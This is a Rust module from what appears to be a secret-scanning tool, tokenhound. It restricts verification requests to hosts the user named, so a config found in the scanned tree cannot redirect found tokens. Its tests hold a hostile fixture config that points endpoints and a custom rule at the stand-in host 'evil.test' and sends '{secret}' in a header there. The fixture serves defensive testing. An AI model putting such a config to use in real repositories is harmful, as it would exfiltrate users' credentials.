//! Who may choose where a token is sent. The rule (docs/SECURITY.md): a token
//! goes only to the built-in issuer of its rule, or to a host the person running
//! tokenhound named, on the command line (`--verify-host`) or in a config they
//! passed with `--config`. A `tokenhound.toml` found in the scanned tree is
//! scanned data: its `[verify]` hosts and `allow_private` are ignored, and its
//! endpoint overrides and custom rules' checks are used only for hosts the user
//! named. This module turns a loaded config and the flags into the verifier's
//! [`Targets`], and decides for one request whether its host may be used.

use std::collections::BTreeMap;

use super::VerifyConfig;

/// Where verification requests may go, as decided by the person running
/// tokenhound (never by scanned data).
#[derive(Debug, Clone, Default)]
pub struct Targets {
    /// Hosts the user named: `--verify-host`, and `[verify] hosts` of a config
    /// given with `--config`.
    pub named_hosts: Vec<String>,
    /// `[verify.endpoints]`: endpoint key → base URL replacing the rule's base.
    pub endpoints: BTreeMap<String, String>,
    /// The endpoint overrides come from a config given with `--config`, so their
    /// hosts are the user's choice; from a scanned tree's config they need their
    /// host named.
    pub trusted_endpoints: bool,
    /// Rules whose own `[rule.verify]` base is not the user's choice (custom
    /// rules of a scanned tree's config), with the file they came from: their
    /// checks run only against hosts the user named.
    pub untrusted_rules: BTreeMap<String, String>,
    /// Private, loopback and link-local targets allowed (`--verify-allow-private`,
    /// or `allow_private` of a config given with `--config`).
    pub allow_private: bool,
}

/// What a run's config says about verification targets, and whose config it
/// is (given with `--config`, or found in the scanned tree).
#[derive(Debug, Clone)]
pub struct ConfigTargets<'a> {
    pub settings: &'a VerifyConfig,
    /// The person running tokenhound gave this config (`--config`).
    pub users: bool,
    /// Where the config was read from, for messages.
    pub origin: String,
    /// Custom rules of a scanned tree's config: their own bases are never used.
    pub untrusted_rule_ids: Vec<String>,
}

impl Targets {
    /// The targets of a run from what its config says (`Config::verify_targets`)
    /// and the `--verify-host` / `--verify-allow-private` flags.
    pub fn for_run(
        config: &ConfigTargets,
        cli_hosts: &[String],
        cli_allow_private: bool,
    ) -> Targets {
        let users_config = config.users;
        let mut named_hosts: Vec<String> = cli_hosts.iter().map(|h| normalise(h)).collect();
        if users_config {
            named_hosts.extend(config.settings.hosts.iter().map(|h| normalise(h)));
        }
        Targets {
            named_hosts,
            endpoints: config.settings.endpoints.clone(),
            trusted_endpoints: users_config,
            untrusted_rules: config
                .untrusted_rule_ids
                .iter()
                .map(|id| (id.clone(), config.origin.clone()))
                .collect(),
            allow_private: cli_allow_private || (users_config && config.settings.allow_private),
        }
    }

    /// True when the user named `host`.
    pub fn named(&self, host: &str) -> bool {
        self.named_hosts
            .iter()
            .any(|h| h.eq_ignore_ascii_case(host))
    }

    /// The base URL a check of `rule_id` goes to (an override of its endpoint
    /// key, else the rule's base), and whether that base is the user's or the
    /// binary's choice (`Ok`) or needs its host named (`Err` with why).
    pub fn base_for<'a>(
        &'a self,
        rule_id: &str,
        endpoint: &str,
        rule_base: &'a str,
    ) -> (&'a str, Result<(), String>) {
        if let Some(over) = self.endpoints.get(endpoint) {
            let trust = if self.trusted_endpoints {
                Ok(())
            } else {
                Err(format!(
                    "the endpoint override `{endpoint}` comes from a tokenhound.toml found in the \
                     scanned tree"
                ))
            };
            return (over.as_str(), trust);
        }
        let trust = match self.untrusted_rules.get(rule_id) {
            None => Ok(()),
            Some(file) => Err(format!(
                "rule `{rule_id}` comes from {file}, a config found in the scanned tree, which may \
                 not choose where tokens are sent (pass it with --config if it is yours)"
            )),
        };
        (rule_base, trust)
    }
}

fn normalise(host: &str) -> String {
    host.trim()
        .trim_start_matches('[')
        .trim_end_matches(']')
        .trim_end_matches('.')
        .to_ascii_lowercase()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::Config;
    use std::collections::HashSet;
    use std::path::Path;

    fn ids(t: &Targets) -> HashSet<&str> {
        t.untrusted_rules.keys().map(String::as_str).collect()
    }

    const TREE: &str = r#"
[verify]
hosts = ["evil.test"]
allow_private = true
endpoints = { github = "https://evil.test/api" }
[[rule]]
id = "x-token"
name = "x"
provider = "x"
kind = "api-key"
keywords = ["xtok_"]
pattern = '''xtok_[a-z]{20}'''
lifetime = "long"
revoke = "r"
examples = ["xtok_abcdefghijklmnopqrst"]
[rule.verify]
endpoint = "x"
base = "https://evil.test"
path = "/u"
headers = { A = "{secret}" }
"#;

    #[test]
    fn a_scanned_trees_config_names_no_target() {
        let mut cfg = Config::parse(TREE, Path::new("repo/tokenhound.toml")).unwrap();
        cfg.from_scanned_tree = true;
        let t = Targets::for_run(&cfg.verify_targets(), &[], false);
        assert!(!t.named("evil.test"));
        assert!(!t.allow_private);
        assert!(t
            .base_for("github-pat", "github", "https://api.github.com")
            .1
            .is_err());
        assert!(t.base_for("x-token", "x", "https://evil.test").1.is_err());
        assert!(t
            .base_for("slack-bot", "slack", "https://slack.com")
            .1
            .is_ok());
        assert_eq!(ids(&t), HashSet::from(["x-token"]));
        // The user names the host: allowed.
        let t = Targets::for_run(&cfg.verify_targets(), &["Evil.Test.".into()], true);
        assert!(t.named("evil.test") && t.allow_private);
    }

    #[test]
    fn a_config_given_with_config_is_the_users() {
        let cfg = Config::parse(TREE, Path::new("mine.toml")).unwrap();
        let t = Targets::for_run(&cfg.verify_targets(), &[], false);
        assert!(t.named("evil.test") && t.allow_private);
        assert!(t
            .base_for("github-pat", "github", "https://api.github.com")
            .1
            .is_ok());
        assert!(t.base_for("x-token", "x", "https://evil.test").1.is_ok());
    }
}
